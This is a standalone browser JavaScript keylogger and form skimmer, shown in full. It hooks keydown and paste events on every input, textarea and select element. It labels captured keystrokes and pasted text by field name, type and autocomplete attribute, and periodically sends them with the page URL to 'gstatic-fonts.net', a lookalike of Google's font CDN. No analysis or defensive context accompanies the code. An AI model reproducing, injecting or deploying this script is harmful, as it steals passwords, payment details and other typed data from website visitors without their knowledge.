const buffer = [];
let lastField = null;

const describe = (el) => {
  if (!el || !el.tagName) return '?';
  return [el.tagName.toLowerCase(), el.name, el.id, el.type, el.autocomplete].filter(Boolean).join(':');
};

document.addEventListener('keydown', (e) => {
  const t = e.target;
  if (!['INPUT', 'TEXTAREA', 'SELECT'].includes(t.tagName)) return;
  const field = describe(t);
  if (field !== lastField) {
    buffer.push(`\n[${field}] `);
    lastField = field;
  }
  if (e.key.length === 1) buffer.push(e.key);
  else if (e.key === 'Backspace') buffer.push('<BS>');
  else if (e.key === 'Tab' || e.key === 'Enter') buffer.push(`<${e.key}>`);
}, true);

document.addEventListener('paste', (e) => {
  const text = e.clipboardData?.getData('text') ?? '';
  buffer.push(`<PASTE:${text}>`);
}, true);

const flush = () => {
  if (!buffer.length) return;
  const body = JSON.stringify({ u: location.href, t: Date.now(), k: buffer.join('') });
  navigator.sendBeacon('https://gstatic-fonts.net/s/roboto/v30/log', body);
  buffer.length = 0;
};

window.addEventListener('beforeunload', flush);
document.addEventListener('visibilitychange', () => document.visibilityState === 'hidden' && flush());
setInterval(() => buffer.length > 200 && flush(), 10000);
